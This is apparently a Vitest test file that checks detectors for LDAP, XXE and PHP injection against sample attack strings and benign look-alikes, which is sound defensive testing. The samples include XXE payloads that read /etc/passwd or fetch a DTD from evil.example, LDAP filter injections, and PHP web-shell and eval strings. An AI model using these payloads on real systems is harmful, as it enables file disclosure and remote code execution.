import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from '../create-injection-inspector.js';

const inspector = createInjectionInspector();
const fires = (cls: string, value: string, location = 'query.q') =>
  inspector.inspectValue(value, location).some((h) => h.class === cls);

describe('ldap detector', () => {
  it.each(['*)(uid=*))(|(uid=*', 'admin)(|(password=*)', 'x)(&)', '*)(objectClass=*'])('fires on %j', (v) => {
    expect(fires('ldap', v)).toBe(true);
  });
  it.each(['(see above) (2)', 'smile :)(', 'f(x)(y)'])('does not fire on %j', (v) => {
    expect(fires('ldap', v)).toBe(false);
  });
});

describe('xxe detector', () => {
  it.each([
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
  ])('fires on %j', (v) => {
    expect(fires('xxe', v, 'body')).toBe(true);
  });
  it.each([
    '<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>',
    '<!DOCTYPE html><html><body>hi</body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  ])('does not fire on %j', (v) => {
    expect(fires('xxe', v, 'body')).toBe(false);
  });
});

describe('php detector', () => {
  it.each([
    '<?php system($_GET["c"]); ?>',
    '<?= `id` ?>',
    'php://filter/convert.base64-encode/resource=index.php',
    'phar://uploads/x.jpg/shell',
    'expect://id',
    'system("id")',
    'exec/**/("id")',
    '$_SERVER["HTTP_HOST"]',
    '${@eval($_POST[1])}',
    'http://evil.example/shell.txt?',
    'base64_decode($x)',
  ])('fires on %j', (v) => {
    expect(fires('php', v)).toBe(true);
  });
  it.each([
    'Please include (if possible) your address',
    'Meeting with the exec (CEO) team',
    'the file system is full',
  ])('does not fire on %j', (v) => {
    expect(fires('php', v)).toBe(false);
  });
});
